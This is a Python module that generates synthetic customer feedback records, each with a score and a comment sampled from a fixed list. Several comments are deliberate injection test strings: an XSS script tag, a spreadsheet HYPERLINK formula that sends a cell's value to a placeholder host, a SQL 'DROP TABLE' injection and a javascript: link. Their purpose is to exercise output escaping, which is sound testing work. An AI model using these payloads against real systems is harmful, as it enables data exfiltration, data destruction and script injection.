"""What users say, some of it hostile to whoever prints it unescaped."""

from __future__ import annotations

from typing import Final

import numpy as np
import pyarrow as pa

from oncall_assets.sample.changes import AccountDay
from oncall_assets.sample.company import Company
from oncall_assets.sample.landing import HOUR, instants, midnight, rows
from oncall_assets.sample.seasons import season
from oncall_assets.sample.spelling import account_ids, record_ids

# Of the accounts with seats, on an ordinary working day.
FORM_SHARE: Final = 0.008
SILENT_SHARE: Final = 0.55

COMMENTS: Final = (
    "Does what it says.",
    "Search got slower since last week",
    "Please add dark mode, thanks!",
    "exports fail on Fridays???",
    "Support answered within the hour. Great people.",
    "Too expensive for a team of four.",
    "Would recommend it to every team I know",
    # From here on, text that must be escaped for where it goes.
    "<script>alert('hello')</script>",
    '=HYPERLINK("http://example.com/?steal="&A1,"click me")',
    "+1-555-0100 call me, *urgent* <!channel>",
    'She said "it\'s broken"; DROP TABLE feedback; --',
    "I ❤️ it 🎉 c'était très bien, 日本語もお願いします",
    "First line\nSecond line\r\n\tthird, with a tab | and a pipe",
    "[click](javascript:alert(1)) {{ template }} %s \\n & <b>",
    "",
)


class Feedback:
    """The feedback forms, day by day."""

    def __init__(self, company: Company) -> None:
        self._company = company

    def collect(self, life: AccountDay) -> pa.Table:
        """The day's `feedback`, only from accounts that held seats all day."""
        chance = self._company.chance("feedback", life.day)
        writes = chance.random(len(life.evening)) < FORM_SHARE * season(life.day)
        account = np.flatnonzero(writes & (life.morning > 0) & (life.evening > 0))
        count = len(account)
        at = np.sort(chance.integers(6 * HOUR, 22 * HOUR, count))
        score = np.clip(np.rint(chance.normal(8.2, 1.9, count)), 0, 10).astype(np.int64)
        comment = pa.array(chance.integers(0, len(COMMENTS), count), mask=chance.random(count) < SILENT_SHARE)
        return rows(
            "feedback",
            {
                "feedback_id": record_ids("form", life.day, np.arange(count)),
                "account_id": account_ids(chance.permutation(account)),
                "submitted_at": instants(midnight(life.day) + at),
                "score": pa.array(score),
                "comment": pa.array(COMMENTS).take(comment),
            },
        )
